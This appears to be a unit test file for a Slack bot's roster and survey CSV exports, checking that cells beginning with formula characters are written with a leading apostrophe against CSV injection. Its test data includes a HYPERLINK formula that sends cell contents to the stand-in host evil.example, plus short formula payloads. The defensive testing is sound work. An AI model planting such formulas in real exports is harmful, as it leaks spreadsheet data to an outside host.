"""CSV files coordinators open in a spreadsheet never run what someone typed: a cell starting with = + - @ | %
is written with a leading apostrophe (the OWASP "CSV injection" advice), and the roster still round-trips."""

from datetime import UTC, datetime

from bot.profiles import SlackIdentity
from bot.roster import export_roster
from bot.surveys.exports import results_csv
from bot.surveys.questions import QuestionDef
from bot.surveys.results import Response, RoundResults, question_result
from tests.unit.test_roster import FakeDirectory, run_import, sessions  # noqa: F401 (fixture)

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ROSTER = ("slack_id,email,name,roles,program,stage,mentoring_wanted,interests\n"
          f'UHOST0001,host@med.example.org,"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",mentee,'
          "+Internal Medicine,PGY-1,career,@wellbeing|=cmd\n")
DIRECTORY = FakeDirectory(SlackIdentity("UHOST0001", "Someone", "host@med.example.org", "America/Toronto"))


def cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runnable(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start, except a plain negative number."""
    return cell[:1] in ("=", "+", "-", "@", "|", "%") and not cell.lstrip("-").replace(".", "").isdigit()


def test_roster_export_defuses_formulas_and_reimports_unchanged(sessions) -> None:  # noqa: F811
    assert run_import(sessions, ROSTER, directory=DIRECTORY).errors == []
    with sessions() as session:
        exported = export_roster(session=session, actor="test", now=datetime(2026, 9, 1, tzinfo=UTC))
    written = cells(exported)
    assert "'" + HOSTILE_NAME in written and "'+Internal Medicine" in written
    assert not [cell for cell in written if runnable(cell)]
    report = run_import(sessions, exported, directory=FakeDirectory())
    assert report.count("unchanged") == 1 and not report.errors


def test_survey_free_text_is_defused_in_the_results_file() -> None:
    text = QuestionDef("idea", "text", "One idea?", required=False)
    typed = ["=1+1", "@SUM(A1)", "-2+3", "+cmd", "plain"]
    result = question_result(text, [Response({}, {"idea": [value]}) for value in typed], 5, None, [])
    results = RoundResults(1, "Pulse", "pulse", True, 1, "closed", datetime(2026, 9, 1, tzinfo=UTC),
                           datetime(2026, 9, 8, tzinfo=UTC), 5, 5, 5, None, (result,), ())
    written = cells(results_csv(results))
    assert {"'=1+1", "'@SUM(A1)", "'-2+3", "'+cmd", "plain"} <= set(written)
    assert not [cell for cell in written if runnable(cell)]
